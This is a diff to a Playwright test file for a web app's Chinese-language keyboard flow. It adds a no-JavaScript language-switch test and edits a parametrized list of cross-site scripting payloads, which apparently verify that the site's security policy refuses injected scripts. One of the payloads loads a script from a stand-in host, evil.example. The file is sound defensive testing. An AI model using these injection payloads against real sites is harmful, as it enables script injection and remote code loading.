@@ -1,4 +1,4 @@
-"""A whole loop in Chinese by the keyboard alone: choose the language, log in, rank, submit. And what the policy refuses."""
+"""A whole loop in Chinese by the keyboard alone: choose the language, log in, rank; and what the policy refuses."""
 
 from typing import Any
 
@@ -71,13 +71,21 @@ def test_the_language_is_changed_in_the_menu_by_keyboard(
     expect(page.get_by_role("button", name="简体中文")).to_have_attribute("aria-pressed", "true")
 
 
+def test_the_language_can_be_chosen_without_javascript(open_page: OpenPage) -> None:
+    page = open_page(locale="zh-CN", java_script_enabled=False)
+    page.goto("/login/")
+    expect(page.get_by_role("heading", level=1)).to_have_text("登录")
+    page.get_by_role("button", name="English").click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Log in")
+
+
 @pytest.mark.parametrize(
     "attack",
     [
         "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
         "document.body.insertAdjacentHTML('beforeend', '<img src=/x onerror=\"window.hacked = 1\">')",
         "document.body.insertAdjacentHTML('beforeend', '<button id=b onclick=\"window.hacked = 1\">'); b.click()",
-        "const a = document.createElement('a'); a.href = 'javascript:window.hacked = 1'; document.body.append(a); a.click()",
+        "document.body.insertAdjacentHTML('beforeend', '<a id=b href=\"javascript:hacked = 1\">x</a>'); b.click()",
         "setTimeout('window.hacked = 1')",
         "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
     ],
